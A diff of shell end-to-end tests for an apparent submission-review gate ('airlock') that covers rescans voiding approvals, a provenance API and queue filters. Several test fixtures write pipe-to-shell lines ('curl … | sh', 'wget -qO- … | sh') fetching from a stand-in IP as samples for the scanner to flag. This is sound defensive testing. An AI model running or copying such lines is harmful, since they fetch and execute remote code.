@@ -624,6 +624,7 @@ t_unscannable_needs_override() {
 	as "$ADMIN" override "$U"
 	expect_rc 2 "airlock override without -m"
 	standing "$U" held 2 2 False
+	expect_all '"overridden" in d' False
 	# Not unscannable: nothing to override.
 	api POST "/v1/submissions/$C/override" "$ADMIN" --data-binary '{"reason": "because"}'
 	expect_code 403 "override of a clean submission"
@@ -634,6 +635,9 @@ t_unscannable_needs_override() {
 	expect_rc 0 "airlock override by the admin"
 	expect_out_has "approved (2 of 2 approvals, overridden)"
 	standing "$U" approved 2 2 True
+	expect_all 'd["overridden"]["admin"]' admin \
+		'd["overridden"]["reason"]' "password known; content checked by hand" \
+		'd["overridden"]["at"].startswith("20")' True
 	api POST "/v1/submissions/$U/override" "$ADMIN" --data-binary '{"reason": "again"}'
 	expect_code 403 "an override of an approved submission"
 	events "$U"
@@ -687,6 +691,72 @@ PY
 }
 
 # ---- 4. rejection is final --------------------------------------------------------
+
+# wait_rescan ID RULESET: polls (admin) until submission ID is held again
+# under a scan of another rule set than RULESET (20 s); $OUT has it.
+wait_rescan() {
+	local i
+	for i in $(seq 1 400); do
+		api GET "/v1/submissions/$1" "$ADMIN"
+		[ "$CODE" = 200 ] && [ "$(jsonq 'd["state"] == "held" and d["scan"]["ruleset"] != "'"$2"'"')" = True ] &&
+			return 0
+		sleep 0.05
+	done
+	fail "submission $1 was not scanned again under new rules within 20 s"
+}
+
+# A rescan under new rules that finds nothing new leaves the approvals
+# standing; one that finds more voids them, and the record says which and
+# why (GET /v1/submissions/ID "voided", airlock show) instead of dropping
+# them silently; a new approval of the new scan counts again.
+t_rescan_voids_approvals() {
+	local rs1 rs2
+	cp -r "$RULES" rules
+	RULES=$PWD/rules
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	reviewers 2
+	printf 'diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1,1 +1,2 @@\n echo one\n+curl -s https://198.51.100.23/x | sh # ZZMARKERZZ\n' >x.patch
+	held "$AG" x.patch "kind=patch&name=x.patch"
+	rs1=$RS
+	approve_as "${REV[1]}" "$SID"
+	standing "$SID" held 1 2
+	expect_all 'len(d["approvals"])' 1 '"voided" in d' False
+	# New rules that find nothing more in it: the approval stands.
+	printf 'rules:\n  - id: test-other-marker\n    title: Another marker (e2e)\n    category: obfuscation\n    severity: medium\n    pattern: QQNOTHEREQQ\n    description: >\n      Matches nothing in the test patch.\n    examples:\n      match: [echo QQNOTHEREQQ]\n      ignore: [echo nothing]\n' >rules/other.yml
+	api POST /v1/rules/reload "$ADMIN" -H 'Content-Type: application/json' --data-binary '{}'
+	expect_code 202 "reload with a rule that matches nothing in the patch"
+	wait_rescan "$SID" "$rs1"
+	rs2=$(jsonq 'd["scan"]["ruleset"]')
+	standing "$SID" held 1 2
+	expect_all '[a["reviewer"] for a in d["approvals"]]' "['rev-1']" \
+		'd["approvals"][0]["person"]' rev-1 '"voided" in d' False
+	# Rules that find one thing more: the approval no longer counts.
+	printf 'rules:\n  - id: test-extra-marker\n    title: An extra marker (e2e)\n    category: obfuscation\n    severity: medium\n    pattern: ZZMARKERZZ\n    description: >\n      Added after the approval: the rescan finds it.\n    examples:\n      match: [echo ZZMARKERZZ]\n      ignore: [echo nothing]\n' >rules/extra.yml
+	api POST /v1/rules/reload "$ADMIN" -H 'Content-Type: application/json' --data-binary '{}'
+	expect_code 202 "reload with a rule that finds more in the patch"
+	wait_rescan "$SID" "$rs2"
+	standing "$SID" held 0 2
+	expect_all 'd["approvals"]' '[]' 'len(d["voided"])' 1 \
+		'd["voided"][0]["reviewer"]' rev-1 'd["voided"][0]["person"]' rev-1 \
+		'd["voided"][0]["new_findings"]' 1 'd["voided"][0]["ruleset"]' "$rs1" \
+		'd["voided"][0]["why"].startswith("given to an earlier scan (rules sha256:")' True \
+		'"found 1 finding that one did not show: it needs a new approval" in d["voided"][0]["why"]' True
+	# Only those who may read approvals see it: not the agent.
+	api GET "/v1/submissions/$SID" "$AG"
+	expect_code 200 "the agent's own submission"
+	expect_all '"voided" in d' False '"approvals" in d' False
+	as "${REV[2]}" show "$SID"
+	expect_rc 0 "airlock show $SID"
+	grep -q '^approvals that no longer count (1)$' "$OUT" || fail "show: no voided approvals section"
+	grep -q 'found 1 finding that one did not show' "$OUT" || fail "show: the voided approval lacks why"
+	# rev-1 approves the new scan: it counts, and is no longer voided.
+	approve_as "${REV[1]}" "$SID"
+	standing "$SID" held 1 2
+	expect_all '"voided" in d' False '[a["reviewer"] for a in d["approvals"]]' "['rev-1']"
+	srv_stop
+}
 
 t_rejected_cannot_be_released() {
 	local AG CI S
@@ -3920,6 +3990,167 @@ t_concurrent_releases_are_one() {
 
 # ---- who is signed in (issue 15) --------------------------------------------------
 
+# GET /v1/provenance (docs/api.md): the chain of a released submission
+# by id, by sha256 and by path, the very document `airlock provenance
+# --json` prints (one function makes both); bounded (the newest 10
+# submissions, the first 1000 entries of a timeline, the rest counted and
+# said); precise 400s, 404 when nothing matches; auditors and admins only,
+# never on the intake socket; an entry edited while the gate was stopped
+# is named, in a 200 whose log does not verify.
+t_provenance_over_the_api() {
+	local AG CI AUD S T sha i q idx
+	srv_start
+	mk_token auditor aud-1
+	AUD=$TOK
+	mk_token agent agent-1 alice
+	AG=$TOK
+	mk_token ci ci-1
+	CI=$TOK
+	reviewers 1
+	printf 'x = 1\n' >x.py
+	held "$AG" x.py name=x.py
+	S=$SID
+	sha=$SHA
+	approve_as "${REV[1]}" "$S"
+	as "$CI" release "$S" -o att.json
+	expect_rc 0 "airlock release"
+	mkdir pulled
+	as "$CI" pull "$S" -o pulled/x.py
+	expect_rc 0 "airlock pull"
+	# The same file inside an archive: the path x.py names it too.
+	mkdir t && cp x.py t/ && tar -C t -cf a.tar x.py
+	held "$AG" a.tar name=a.tar
+	T=$SID
+
+	api GET "/v1/provenance?id=$S" "$AUD"
+	expect_code 200 "provenance by id"
+	cp "$OUT" prov-id.json
+	python3 - prov-id.json "$S" "$sha" "$(sha256sum att.json | cut -c1-64)" <<'PY' || fail "provenance by id: $(head -c 800 prov-id.json)"
+import json, sys
+d = json.load(open(sys.argv[1]))
+assert d["query"] == {"id": int(sys.argv[2])} and d["matched"] == 1 and "truncated" not in d, d
+s, = d["submissions"]
+assert s["id"] == int(sys.argv[2]) and s["state"] == "released" and s["verdict"] == "clean", s
+assert s["witnessed"]["sha256"] == sys.argv[3] and s["witnessed"]["submitter"] == "agent-1", s
+assert s["witnessed"]["launched_for"] == "alice" and s["asserted"]["name"] == "x.py", s
+acts = [e["action"] for e in s["timeline"]]
+for a in ("submit", "scan.start", "scan.finish", "view", "approve", "approved", "release", "pull"):
+    assert a in acts, (a, acts)
+assert acts.index("approve") < acts.index("release") < acts.index("pull"), acts
+rel = [e for e in s["timeline"] if e["action"] == "release"][0]
+assert rel["actor"] == "ci-1" and "attestation_sha256=" + sys.argv[4] in rel["detail"], rel
+assert all(e["proof"] in ("proved", "after the checkpoint") for e in s["timeline"]), s["timeline"]
+assert rel["proof"] == "proved", rel  # the release's own checkpoint covers it
+assert s["log"]["verified"] is True and s["log"]["size"] >= 1 and len(s["log"]["key_id"]) == 64, s["log"]
+assert "timeline_not_shown" not in s, s
+PY
+	# One function makes both: the CLI's document is the API's.
+	RC=0
+	"$BIN" provenance "$S" --data "$PWD/data" --json >cli.json 2>"$ERR" || RC=$?
+	expect_rc 0 "airlock provenance ID --json"
+	python3 -c 'import json, sys; a, b = (json.load(open(f)) for f in sys.argv[1:]); assert a == b, (a, b)' \
+		prov-id.json cli.json || fail "the API's provenance is not the CLI's"
+	api GET "/v1/provenance?sha256=$sha" "$ADMIN"
+	expect_code 200 "provenance by sha256 (admin)"
+	expect_all 'd["query"]' "{'sha256': '$sha'}" '[s["id"] for s in d["submissions"]]' "[$S]" \
+		'd["submissions"][0]["timeline"] == json.load(open("prov-id.json"))["submissions"][0]["timeline"]' True
+	api GET "/v1/provenance?path=x.py" "$AUD"
+	expect_code 200 "provenance by path"
+	expect_all 'd["matched"]' 2 '[s["id"] for s in d["submissions"]]' "[$S, $T]" \
+		'd["submissions"][1]["asserted"]["name"]' a.tar
+	api GET "/v1/provenance?path=a.tar%21%2Fx.py" "$AUD"
+	expect_code 200 "provenance by an item's whole path"
+	expect_all '[s["id"] for s in d["submissions"]]' "[$T]"
+	api GET "/v1/provenance?path=.py" "$AUD"
+	expect_code 404 "a path's tail that is not a member's path"
+	expect_all 'd["error"]' "no submission is named so or has an item at that path"
+
+	# Bad queries: 400, saying what is wrong; nothing matched: 404.
+	for q in "|give one of sha256, id and path" \
+		"id=$S&path=x.py|sha256, id and path are exclusive: give one" \
+		"sha256=${sha:0:63}|sha256 is 64 lowercase hex digits, not 63 characters" \
+		"sha256=${sha}0|sha256 is 64 lowercase hex digits, not 65 characters" \
+		"sha256=$(printf '%s' "$sha" | tr a-f A-F)|sha256 is 64 lowercase hex digits: character" \
+		"sha256=g${sha:1}|sha256 is 64 lowercase hex digits: character 1 is not one" \
+		"id=0|id is a submission id: a decimal from 1" "id=-1|id is a submission id" \
+		"id=0$S|id is a submission id" "id=1x|id is a submission id" \
+		"id=1234567890123456789|id is a submission id" \
+		"path=|path has no value" "id=|id has no value" "path|path has no value" \
+		"path=a%ffb|path is not UTF-8 text (byte 2 of 3 is not valid)" \
+		"path=%c0%af|path is not UTF-8 text (byte 1 of 2 is not valid)" \
+		"path=$(head -c 4097 /dev/zero | tr '\0' a)|path is at most 4096 bytes, not 4097" \
+		"id=$S&id=$S|id is given twice" \
+		"name=x.py|unknown query argument (this endpoint takes sha256, id and path)"; do
+		api GET "/v1/provenance?${q%%|*}" "$AUD"
+		expect_code 400 "GET /v1/provenance?${q%%|*}"
+		expect_error_json
+		grep -qF -- "${q#*|}" "$OUT" || fail "GET /v1/provenance?${q%%|*}: $(cat "$OUT")"
+	done
+	api GET "/v1/provenance?sha256=$(printf '%064d' 7)" "$AUD"
+	expect_code 404 "provenance of bytes never submitted"
+	expect_all 'd["error"]' "no submission of the artifact $(printf '%064d' 7)"
+	api GET "/v1/provenance?id=999" "$AUD"
+	expect_code 404 "provenance of an unknown id"
+	expect_all 'd["error"]' "no submission 999"
+	api GET "/v1/provenance?path=nothing.py" "$AUD"
+	expect_code 404 "provenance of a path nothing has"
+
+	# Auditors and admins only; not on the intake socket.
+	for t in "$AG" "${REV[1]}" "$CI"; do
+		api GET "/v1/provenance?id=$S" "$t"
+		expect_code 403 "provenance as a role that may not"
+		expect_all 'd["error"]' "this token's role may not do that"
+	done
+	api GET "/v1/provenance?id=$S" ""
+	expect_code 401 "provenance without a token"
+	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -H "Authorization: Bearer $AG" \
+		--unix-socket "$PWD/data/intake.sock" "http://localhost/v1/provenance?id=$S" 2>"$ERR") || true
+	expect_code 404 "provenance on the intake socket"
+	expect_all 'd["error"]' "no such endpoint"
+
+	# Bounded: 12 submissions of the same bytes; the newest 10 shown, the
+	# others counted and named, newest first.
+	for i in $(seq 1 11); do
+		submit "$AG" x.py name=x.py
+	done
+	api GET "/v1/provenance?sha256=$sha" "$AUD"
+	expect_code 200 "provenance of 12 submissions"
+	expect_all 'd["matched"]' 12 'd["truncated"]' True 'len(d["submissions"])' 10 \
+		'[s["id"] for s in d["submissions"]] == sorted(s["id"] for s in d["submissions"])' True \
+		'd["submissions"][-1]["id"]' "$SID" \
+		'd["not_shown"] == sorted(d["not_shown"], reverse=True) and len(d["not_shown"]) == 2' True \
+		"$S in d[\"not_shown\"] and $S not in [s[\"id\"] for s in d[\"submissions\"]]" True
+	# A timeline longer than 1000 entries: the first 1000, the rest counted.
+	for i in $(seq 1 1000); do
+		printf 'url = "%s/v1/submissions/%s/content"\noutput = /dev/null\n' "$URL" "$T"
+	done >views.cfg
+	curl -sS -K views.cfg -H "Authorization: Bearer ${REV[1]}" 2>"$ERR" || fail "1000 views: $(cat "$ERR")"
+	i=$(sql1 data/airlock.db "SELECT count(*) FROM audit_leaves WHERE instr(entry, CAST(char(10) || 'submission $T' || char(10) AS BLOB)) > 0")
+	[ "$i" -gt 1000 ] || fail "submission $T has $i entries, not more than 1000"
+	api GET "/v1/provenance?id=$T" "$AUD"
+	expect_code 200 "provenance of a long timeline"
+	expect_all 'len(d["submissions"][0]["timeline"])' 1000 'd["submissions"][0]["timeline_not_shown"]' "$((i - 1000))" \
+		'd["submissions"][0]["timeline"][0]["action"]' submit
+	RC=0
+	"$BIN" provenance "$T" --data "$PWD/data" --json >cli.json 2>"$ERR" || RC=$?
+	expect_rc 0 "airlock provenance of the long timeline"
+	expect_eq "$(python3 -c 'import json, sys; print(len(json.load(open(sys.argv[1]))["submissions"][0]["timeline"]))' cli.json)" "$i" \
+		"the CLI's timeline (not bounded)"
+
+	# An entry edited behind the stopped gate's back: a 200 that names it.
+	srv_stop
+	idx=$(sql1 data/airlock.db "SELECT l.idx FROM audit_leaves l JOIN events e ON e.id = l.event_id WHERE e.action = 'approve'")
+	sql data/airlock.db "UPDATE audit_leaves SET entry = CAST(replace(CAST(entry AS TEXT), 'action approve', 'action approvE') AS BLOB) WHERE idx = $idx"
+	srv_start
+	api GET "/v1/provenance?id=$S" "$AUD"
+	expect_code 200 "provenance with an edited entry"
+	expect_all 'd["submissions"][0]["log"]["verified"]' False \
+		'd["submissions"][0]["log"]["failures"]["first"]' "$idx" \
+		"[e[\"proof\"] for e in d[\"submissions\"][0][\"timeline\"] if e[\"index\"] == $idx]" "['DOES NOT VERIFY']" \
+		"[e[\"action\"] for e in d[\"submissions\"][0][\"timeline\"] if e[\"index\"] == $idx]" "['approvE']"
+	srv_stop 1
+}
+
 # GET /v1/whoami tells each caller its own token: name, role, the person it
 # belongs to (an agent's: the person it was launched for; a token named
 # apart from its person: that person, not the name), and when it expires.
@@ -3975,6 +4206,297 @@ t_whoami_each_role() {
 	expect_code 401 "whoami with a revoked token"
 	expect_error_json "$RV"
 	expect_all 'd["error"].startswith("token revoked at 20")' True
+	srv_stop
+}
+
+# ---- the queue: the list's counts, filters, sort and pages ---------------------------
+
+# list_is_show QUERY: GET /v1/submissions?QUERY (admin), 200, and every
+# entry as GET /v1/submissions/ID gives it: each member of the entry (its
+# "review" among them: state, approvals counted now, needed, override)
+# equal to the show's. The list stays in $OUT.
+list_is_show() {
+	local msg
+	api GET "/v1/submissions?$1" "$ADMIN"
+	expect_code 200 "list ?$1"
+	msg=$(python3 - "$OUT" "$URL" "$ADMIN" <<'EOF' 2>&1
+import json, sys, urllib.request
+d = json.load(open(sys.argv[1], "rb"))
+for e in d["submissions"]:
+    r = urllib.request.Request("%s/v1/submissions/%d" % (sys.argv[2], e["id"]),
+                               headers={"Authorization": "Bearer " + sys.argv[3]})
+    s = json.load(urllib.request.urlopen(r, timeout=30))
+    if "review" not in e:
+        print("entry %d has no review" % e["id"])
+        break
+    bad = [k for k in e if e[k] != s.get(k)]
+    if bad:
+        print("entry %d: %s" % (e["id"], "; ".join("list %s=%r, show %r" % (k, e[k], s.get(k)) for k in bad)))
+        break
+EOF
+	) || fail "list ?$1: $msg"
+	[ -z "$msg" ] || fail "list ?$1 and show disagree: $msg"
+}
+
+# list_review ID: the review of entry ID of the list in $OUT, as
+# "state approvals/needed override".
+list_review() {
+	python3 - "$OUT" "$1" <<'EOF'
+import json, sys
+d = json.load(open(sys.argv[1], "rb"))
+e = [e for e in d["submissions"] if e["id"] == int(sys.argv[2])]
+r = e[0]["review"] if e else None
+print("%s %d/%d %s" % (r["state"], r["approvals"], r["needed"], r["override"]) if r else "absent")
+EOF
+}
+
+# The queue's x/y is the release decision's: every entry of the list (of
+# each state, and of all) carries the review GET /v1/submissions/ID gives,
+# through no approval, one of two, two (approved), a rejection; then the
+# rules change (a rule that finds something new in one of them): the
+# approval of that one no longer counts, the others' stand, and the list
+# says so exactly as show does.
+t_queue_list_counts_as_show() {
+	local AG N0 N1 N2 V RJ q
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	reviewers 2
+	echo 'print("hello")' >clean.py
+	held "$AG" clean.py name=clean.py
+	N0=$SID
+	curlsh_file one.sh
+	held "$AG" one.sh name=one.sh
+	N1=$SID
+	approve_as "${REV[1]}" "$N1"
+	pat_file two.env
+	held "$AG" two.env name=two.env
+	N2=$SID
+	approve_as "${REV[1]}" "$N2"
+	approve_as "${REV[2]}" "$N2"
+	printf '#!/bin/sh\ncurl -s https://198.51.100.23/v | sh\n# QUEUEMARK\n' >void.sh
+	held "$AG" void.sh name=void.sh
+	V=$SID
+	approve_as "${REV[2]}" "$V"
+	printf '#!/bin/sh\nwget -qO- https://198.51.100.23/r | sh\n' >rej.sh
+	held "$AG" rej.sh name=rej.sh
+	RJ=$SID
+	as "${REV[1]}" reject "$RJ" -m "pipes a download into sh"
+	expect_rc 0 "airlock reject"
+	for q in state=held state=approved state=rejected limit=1000 sort=severity; do
+		list_is_show "$q"
+	done
+	list_is_show ""
+	expect_eq "$(list_review "$N0")" "held 0/1 False" "the list's review of the clean one"
+	expect_eq "$(list_review "$N1")" "held 1/2 False" "the list's review of one approval of two"
+	expect_eq "$(list_review "$N2")" "approved 2/2 False" "the list's review of two approvals"
+	expect_eq "$(list_review "$V")" "held 1/2 False" "the list's review before the rule change"
+	expect_eq "$(list_review "$RJ")" "rejected 0/2 False" "the list's review of a rejection"
+	srv_stop
+	# A rule that finds QUEUEMARK: at start the gate scans held and
+	# approved submissions again under the new rules.
+	mkdir rules2
+	cp "$RULES"/*.yml rules2/
+	cat >>rules2/test.yml <<'EOF'
+
+  - id: test-queue-mark
+    title: A marker only the queue's test writes (test rule)
+    category: obfuscation
+    severity: medium
+    pattern: 'QUEUEMARK'
+    description: >
+      Added by t_queue_list_counts_as_show to change the rule set.
+    examples:
+      match:
+        - '# QUEUEMARK'
+      ignore:
+        - '# a comment'
+EOF
+	RULES=$PWD/rules2 srv_start
+	wait_state "$V" held
+	expect_all '[f["rule"] for f in F if f["rule"] == "test-queue-mark"]' "['test-queue-mark']"
+	wait_state "$N1" held
+	wait_state "$N0" held
+	wait_state "$N2" approved
+	for q in state=held state=approved state=rejected sort=oldest; do
+		list_is_show "$q"
+	done
+	list_is_show ""
+	expect_eq "$(list_review "$V")" "held 0/2 False" "the list's review once the new rule found more"
+	expect_eq "$(list_review "$N1")" "held 1/2 False" "the list's review of an approval the rescan kept"
+	expect_eq "$(list_review "$N2")" "approved 2/2 False" "the list's review of two kept approvals"
+	expect_eq "$(list_review "$RJ")" "rejected 0/2 False" "the list's review of the rejection after the rescan"
+	srv_stop
+}
+
+# list_ids QUERY [TOKEN]: the ids of GET /v1/submissions?QUERY (TOKEN,
+# default the admin's) as "[5, 4, 3]" in $IDS; the same list is asked
+# again two a page, each page from the one before's "next" (given back
+# as cursor), and must be the same ids, once each, the last "next" null.
+list_ids() {
+	local msg
+	msg=$(python3 - "$URL" "${2:-$ADMIN}" "$1" <<'EOF' 2>&1
+import json, sys, urllib.parse, urllib.request
+url, tok, q = sys.argv[1:4]
+def get(query):
+    r = urllib.request.Request(url + "/v1/submissions?" + query, headers={"Authorization": "Bearer " + tok})
+    return json.load(urllib.request.urlopen(r, timeout=30))
+one = get(q)
+assert one["next"] is None, "one page of all has a next: %r" % one["next"]
+ids = [e["id"] for e in one["submissions"]]
+paged, cur, pages = [], None, 0
+while True:
+    d = get("&".join(x for x in (q, "limit=2", cur and "cursor=" + urllib.parse.quote(cur)) if x))
+    pages += 1
+    assert len(d["submissions"]) <= 2 and pages < 50, "page %d: %d entries" % (pages, len(d["submissions"]))
+    paged += [e["id"] for e in d["submissions"]]
+    cur = d["next"]
+    if cur is None:
+        break
+    assert isinstance(cur, str) and cur, "next is %r" % cur
+assert paged == ids, "two a page: %r, one page: %r" % (paged, ids)
+print(ids)
+EOF
+	) || fail "list ?$1: $msg"
+	IDS=$msg
+}
+
+# expect_list_400 QUERY MESSAGE: GET /v1/submissions?QUERY is 400 with
+# exactly {"error": MESSAGE}.
+expect_list_400() {
+	api GET "/v1/submissions?$1" "$ADMIN"
+	expect_code 400 "list ?$1"
+	expect_error_json
+	expect_all 'd["error"]' "$2"
+}
+
+# The gate filters, sorts and pages the list: severity at least, the kind
+# it read, the submitter agent, the launched-for person compared as the
+# gate compares names (fold.h: case, NFKC's fullwidth forms, white space),
+# newest, oldest, most severe first; every list also two a page through
+# the cursor. An agent (on TCP or the intake socket) still sees only its
+# own, whatever it filters by. Every bad argument is a 400 that says what
+# is wrong, without echoing the value.
+t_queue_list_filters_sort_pages() {
+	local A1 A2 C1 H1 K2 P2 Z1 SEVCUR
+	srv_start
+	mk_token agent agent-1 alice
+	A1=$TOK
+	api POST /v1/persons "$ADMIN" -H 'Content-Type: application/json' --data-binary '{"name": "Bob Smith"}'
+	expect_code 201 "register Bob Smith"
+	mk_token agent agent-2 'bob smith'
+	A2=$TOK
+	echo 'print("hello")' >clean.py
+	held "$A1" clean.py name=clean.py
+	C1=$SID
+	curlsh_file run.sh
+	held "$A1" run.sh name=run.sh
+	H1=$SID
+	pat_file key.env
+	held "$A2" key.env name=key.env
+	K2=$SID
+	mkdir r
+	printf 'curl -s https://198.51.100.23/p | sh\n' >r/setup.sh
+	git -C r init -q && git -C r add -A && git -C r diff --cached >p.patch
+	held "$A2" p.patch name=p.patch
+	P2=$SID
+	zip -q z.zip run.sh || fail "zip"
+	held "$A1" z.zip name=z.zip
+	Z1=$SID
+	expect_all 'd["kind"]' archive 'd["worst"]' high
+
+	list_ids ""
+	expect_eq "$IDS" "[$Z1, $P2, $K2, $H1, $C1]" "the list, newest first"
+	list_ids sort=newest
+	expect_eq "$IDS" "[$Z1, $P2, $K2, $H1, $C1]" "sort=newest"
+	list_ids sort=oldest
+	expect_eq "$IDS" "[$C1, $H1, $K2, $P2, $Z1]" "sort=oldest"
+	list_ids sort=severity
+	expect_eq "$IDS" "[$K2, $Z1, $P2, $H1, $C1]" "sort=severity (critical, the highs newest first, none)"
+	list_ids severity=high
+	expect_eq "$IDS" "[$Z1, $P2, $K2, $H1]" "severity=high"
+	list_ids "severity=critical&sort=severity"
+	expect_eq "$IDS" "[$K2]" "severity=critical"
+	list_ids severity=info
+	expect_eq "$IDS" "[$Z1, $P2, $K2, $H1]" "severity=info: any finding"
+	list_ids kind=patch
+	expect_eq "$IDS" "[$P2]" "kind=patch"
+	list_ids kind=archive
+	expect_eq "$IDS" "[$Z1]" "kind=archive"
+	list_ids kind=file
+	expect_eq "$IDS" "[$K2, $H1, $C1]" "kind=file"
+	list_ids agent=agent-2
+	expect_eq "$IDS" "[$P2, $K2]" "agent=agent-2"
+	list_ids agent=agent
+	expect_eq "$IDS" "[]" "agent=agent (a name, not a part of one)"
+	list_ids person=ALICE
+	expect_eq "$IDS" "[$Z1, $H1, $C1]" "person=ALICE"
+	list_ids 'person=%EF%BC%A1lice'
+	expect_eq "$IDS" "[$Z1, $H1, $C1]" "person=ＡLICE (fullwidth A)"
+	list_ids 'person=%20Bob%20%20SMITH%20'
+	expect_eq "$IDS" "[$P2, $K2]" "person=' Bob  SMITH '"
+	list_ids person=bob
+	expect_eq "$IDS" "[]" "person=bob (a name, not a part of one)"
+	list_ids "state=held&severity=high&agent=agent-1&sort=severity"
+	expect_eq "$IDS" "[$Z1, $H1]" "filters together"
+	list_is_show "severity=high&sort=oldest"
+
+	# An agent: its own, and filters only narrow that.
+	list_ids "" "$A1"
+	expect_eq "$IDS" "[$Z1, $H1, $C1]" "agent-1's list"
+	list_ids agent=agent-2 "$A1"
+	expect_eq "$IDS" "[]" "agent-1 asking for agent-2's"
+	list_ids severity=critical "$A1"
+	expect_eq "$IDS" "[]" "agent-1 asking for the critical one (agent-2's)"
+	list_ids person=bob%20smith "$A1"
+	expect_eq "$IDS" "[]" "agent-1 asking for bob smith's"
+	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -H "Authorization: Bearer $A2" \
+		--unix-socket "$PWD/data/intake.sock" 'http://localhost/v1/submissions?sort=severity&limit=1' 2>"$ERR") || true
+	expect_code 200 "the list on the intake socket"
+	expect_all '[e["id"] for e in d["submissions"]]' "[$K2]" 'd["next"]' "s5.$K2" \
+		'sorted(d["submissions"][0]["review"].items())' \
+		"[('approvals', 0), ('needed', 2), ('override', False), ('state', 'held')]"
+	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -H "Authorization: Bearer $A2" \
+		--unix-socket "$PWD/data/intake.sock" "http://localhost/v1/submissions?sort=severity&cursor=s5.$K2" 2>"$ERR") || true
+	expect_code 200 "the next page on the intake socket"
+	expect_all '[e["id"] for e in d["submissions"]]' "[$P2]" 'd["next"]' None
+	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -H "Authorization: Bearer $ADMIN" \
+		--unix-socket "$PWD/data/intake.sock" 'http://localhost/v1/submissions?agent=agent-1' 2>"$ERR") || true
+	expect_code 200 "the admin's list on the intake socket"
+	expect_all 'd["submissions"]' "[]"
+
+	# Bad arguments: 400, saying which and why.
+	api GET "/v1/submissions?sort=severity&limit=1" "$ADMIN"
+	expect_code 200 "a first page by severity"
+	SEVCUR=$(jsonq 'd["next"]')
+	expect_list_400 'state=held&state=x' "state is given twice: give each argument once"
+	expect_list_400 'state=held&state=held' "state is given twice: give each argument once"
+	expect_list_400 'limit=1&limit=2' "limit is given twice: give each argument once"
+	expect_list_400 'state=bogus' "unknown state (received, scanning, held, approved, rejected, released, expired)"
+	expect_list_400 'state=%FF%FE' "unknown state (received, scanning, held, approved, rejected, released, expired)"
+	expect_list_400 'state=' "state has no value"
+	expect_list_400 'state' "state has no value"
+	expect_list_400 'severity=severe' "unknown severity (info, low, medium, high, critical: the worst at least that)"
+	expect_list_400 'severity=HIGH' "unknown severity (info, low, medium, high, critical: the worst at least that)"
+	expect_list_400 'kind=auto' "unknown kind (file, archive, patch, mbox, bundle: the kind the gate read)"
+	expect_list_400 'agent=agent%20one' "agent is a token's name: 1 to 64 letters, digits and . _ - @"
+	expect_list_400 'agent=%FF' "agent is a token's name: 1 to 64 letters, digits and . _ - @"
+	expect_list_400 'person=%FF' "person: a name is UTF-8 text"
+	expect_list_400 'person=%20%20' "person: a person's name is not empty"
+	expect_list_400 'limit=ten' "limit is a number from 1 to 1000"
+	expect_list_400 'limit=0' "limit is a number from 1 to 1000"
+	expect_list_400 'limit=1001' "limit is a number from 1 to 1000"
+	expect_list_400 'limit=-1' "limit is a number from 1 to 1000"
+	expect_list_400 'sort=name' "unknown sort (newest, oldest, severity)"
+	expect_list_400 'cursor=garbage' 'cursor is not one this list gave for sort=newest: pass back "next" as it came, with the same sort'
+	expect_list_400 "cursor=$SEVCUR" 'cursor is not one this list gave for sort=newest: pass back "next" as it came, with the same sort'
+	expect_list_400 "sort=severity&cursor=s9.1" 'cursor is not one this list gave for sort=severity: pass back "next" as it came, with the same sort'
+	expect_list_400 'status=held' "unknown query argument (the list takes state, severity, kind, agent, person, sort, limit and cursor)"
+	expect_list_400 '%FF=1' "unknown query argument (the list takes state, severity, kind, agent, person, sort, limit and cursor)"
+	expect_list_400 'state=held%00x' "the URL holds an encoded NUL byte (%00)"
+	api GET '/v1/submissions?person=%C4%B0' "$ADMIN"
+	expect_code 400 "a person fold.h refuses"
+	expect_all 'd["error"].startswith("person: a person\x27s name may not hold U+0130: ")' True
 	srv_stop
 }
 
